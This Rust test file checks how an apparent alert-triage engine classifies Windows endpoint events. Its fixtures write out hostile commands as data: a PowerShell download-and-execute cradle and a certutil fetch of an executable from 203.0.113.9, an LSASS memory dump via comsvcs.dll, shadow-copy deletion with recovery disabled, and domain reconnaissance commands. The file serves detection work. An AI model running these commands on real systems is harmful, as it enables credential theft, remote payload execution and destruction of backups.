//! Worked numbers in the form of `analyst.md` §3.4: which side of the thresholds each case falls on, and why.

use super::*;
use crate::domain::draft::Classification;

const FOLDER: &str =
    "C:\\ProgramData\\Microsoft\\Windows Defender Advanced Threat Protection\\DataCollection\\1.2-3\\0a1b.ps1";
const SENSOR: &str = "C:\\Program Files\\Windows Defender Advanced Threat Protection\\SenseIR.exe";
const SYSTEM: &str = "NT AUTHORITY\\SYSTEM";
const PERSON: &str = "CORP\\a.user";

fn near(probability: f64, from: f64, to: f64) {
    assert!((from..=to).contains(&probability), "{probability} is not from {from} to {to}");
}

#[test]
fn defenders_own_script_is_closed_and_needs_its_whole_description() {
    let command =
        format!("powershell.exe -ExecutionPolicy AllSigned -NoProfile -NonInteractive -Command \"& {{. '{FOLDER}'}}\"");
    let own = case(
        Severity::Medium,
        vec![start("e", POWERSHELL, &command, SENSOR, SYSTEM), sysmon("end", 110, 5, json!({"ProcessGuid": PROCESS}))],
    );
    near(own.probability(), 0.0, 0.048);
    assert_eq!(own.draft().classification, Classification::FalsePositive);
    let without_parent = case(Severity::Medium, vec![start("e", POWERSHELL, &command, "-", SYSTEM)]);
    assert_eq!(without_parent.draft().classification, Classification::Undetermined);
}

#[test]
fn a_look_alike_that_fetches_and_runs_is_never_closed() {
    let command =
        "powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')\"";
    let file = "C:\\Users\\Public\\Windows Defender Advanced Threat Protection\\DataCollection\\1\\a.exe";
    let events = vec![start("e", file, command, SENSOR, SYSTEM)];
    near(case(Severity::Medium, events).probability(), 0.5, 0.99);
}

#[test]
fn a_dump_by_comsvcs_is_a_threat_that_is_contained() {
    let rundll = "C:\\Windows\\System32\\rundll32.exe";
    let command = "rundll32.exe C:\\windows\\system32\\comsvcs.dll, MiniDump 712 C:\\Users\\Public\\t.dmp full";
    let trace = "C:\\Windows\\SYSTEM32\\ntdll.dll+9c|C:\\Windows\\System32\\dbgcore.dll+1";
    let dump = case(
        Severity::High,
        vec![
            start("e", rundll, command, CMD, PERSON),
            sysmon(
                "access",
                101,
                10,
                json!({"SourceProcessGUID": PROCESS, "SourceImage": rundll, "TargetImage": LSASS,
            "GrantedAccess": "0x1fffff", "CallTrace": trace}),
            ),
            sysmon(
                "file",
                102,
                11,
                json!({"ProcessGuid": PROCESS, "Image": rundll, "TargetFilename": "C:\\Users\\Public\\t.dmp"}),
            ),
        ],
    );
    let draft = dump.draft();
    near(draft.malicious_probability, 0.95, 0.99);
    assert_eq!(draft.classification, Classification::TruePositive);
    assert_eq!(draft.containment.len(), 1, "{:?}", draft.containment);
    assert!(draft.citations.len() <= 12 && draft.hypotheses.len() >= 2);
}

#[test]
fn a_control_signal_of_csrss_is_harmless_and_code_of_no_module_is_not() {
    let thread = |module: &str, function: &str| {
        let data = json!({"SourceImage": "C:\\Windows\\System32\\csrss.exe", "TargetImage": "C:\\Windows\\System32\\svchost.exe",
            "StartModule": module, "StartFunction": function, "SourceProcessGuid": "{1}", "TargetProcessGuid": "{2}"});
        case(Severity::Medium, vec![sysmon("e", 100, 8, data)])
    };
    near(thread("C:\\Windows\\System32\\KERNELBASE.dll", "CtrlRoutine").probability(), 0.0, 0.048);
    near(thread("-", "-").probability(), 0.2, 0.5);
}

#[test]
fn an_encoded_command_that_nobody_logged_whole_stays_open_with_its_unknowns() {
    let block = event("e", 100, HOST, ("Microsoft-Windows-PowerShell/Operational", 4103), json!({"ContextInfo": "x"}));
    let draft = case(Severity::Medium, vec![block]).draft();
    near(draft.malicious_probability, 0.05, 0.5);
    assert_eq!(draft.classification, Classification::Undetermined);
    assert!(draft.unknowns.len() >= 3 && draft.human_question.is_some(), "{:?}", draft.unknowns);
}

#[test]
fn recovery_inhibited_in_steps_is_a_threat_and_retention_is_not() {
    let program = format!("{TEMP}a.exe");
    let vssadmin = "C:\\Windows\\System32\\vssadmin.exe";
    let mut second =
        start("f", "C:\\Windows\\System32\\bcdedit.exe", "bcdedit /set {default} recoveryenabled no", &program, PERSON);
    second.id = EventId::new("f");
    let all = case(
        Severity::High,
        vec![start("e", vssadmin, "vssadmin delete shadows /all /quiet", &program, PERSON), second],
    );
    let draft = all.draft();
    near(draft.malicious_probability, 0.9, 0.99);
    assert_eq!(draft.classification, Classification::TruePositive);
    assert_eq!(draft.containment.len(), 1);
    let backup = "C:\\Program Files\\Vendor Backup\\Agent.exe";
    let kept = case(
        Severity::High,
        vec![start("e", vssadmin, "vssadmin delete shadows /for=D: /oldest /quiet", backup, SYSTEM)],
    );
    near(kept.probability(), 0.0, 0.048);
    assert_eq!(kept.draft().classification, Classification::Undetermined, "it is known, and no machine closes on it");
}

#[test]
fn looking_around_weighs_by_who_does_it() {
    let whoami = start("e", "C:\\Windows\\System32\\whoami.exe", "whoami", CMD, PERSON);
    near(case(Severity::Low, vec![whoami]).probability(), 0.0, 0.048);
    let word = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE";
    let mut events = vec![start("e", CMD, "cmd /c a.bat", word, PERSON)];
    for (number, command) in [
        "whoami /all",
        "net user",
        "net group \"Domain Admins\" /domain",
        "ipconfig /all",
        "systeminfo",
        "nltest /dclist:",
        "tasklist",
    ]
    .iter()
    .enumerate()
    {
        let program = command.split(' ').next().expect("a program");
        let mut asked = start("q", &format!("C:\\Windows\\System32\\{program}.exe"), command, CMD, PERSON);
        asked.id = EventId::new(format!("q{number}"));
        events.push(asked);
    }
    let draft = case(Severity::Medium, events).draft();
    near(draft.malicious_probability, 0.8, 0.99);
    assert_eq!(draft.classification, Classification::TruePositive);
    assert!(draft.containment.is_empty(), "nothing goes on yet that isolation would stop");
}

#[test]
fn what_certutil_fetched_from_a_bare_address_and_started_is_a_threat() {
    let certutil = "C:\\Windows\\System32\\certutil.exe";
    let file = format!("{TEMP}a.exe");
    let fetched = start("e", certutil, &format!("certutil -urlcache -f http://203.0.113.9/a.exe {file}"), CMD, PERSON);
    let written = sysmon("w", 101, 11, json!({"ProcessGuid": PROCESS, "Image": certutil, "TargetFilename": file}));
    let mut run = start("r", &file, &file, CMD, PERSON);
    run.time = crate::fixtures::at(105);
    let draft = case(Severity::High, vec![fetched, written, run]).draft();
    near(draft.malicious_probability, 0.9, 0.99);
    assert_eq!(draft.classification, Classification::TruePositive);
}

#[test]
fn a_script_that_an_agent_runs_everywhere_is_expected_and_the_first_of_its_kind_is_not() {
    let agent = "C:\\Program Files\\Vendor\\Agent.exe";
    let command = "powershell.exe -NoProfile -NonInteractive -File \"C:\\Program Files\\Vendor\\check.ps1\"";
    let events =
        || vec![start("e", POWERSHELL, command, agent, SYSTEM), sysmon("end", 110, 5, json!({"ProcessGuid": PROCESS}))];
    let usual = case(Severity::Medium, events()).answered("prevalence", of_first(), prevalence(12, 25));
    near(usual.probability(), 0.0, 0.048);
    assert_eq!(usual.draft().classification, Classification::InformationalExpectedActivity);
    let first = case(Severity::Medium, events()).answered("prevalence", of_first(), prevalence(0, 0));
    assert!(first.probability() > 0.2);
    let by_person =
        vec![start("e", POWERSHELL, command, agent, PERSON), sysmon("end", 110, 5, json!({"ProcessGuid": PROCESS}))];
    let by_person = case(Severity::Medium, by_person).answered("prevalence", of_first(), prevalence(12, 25));
    assert_eq!(by_person.draft().classification, Classification::Undetermined);
}
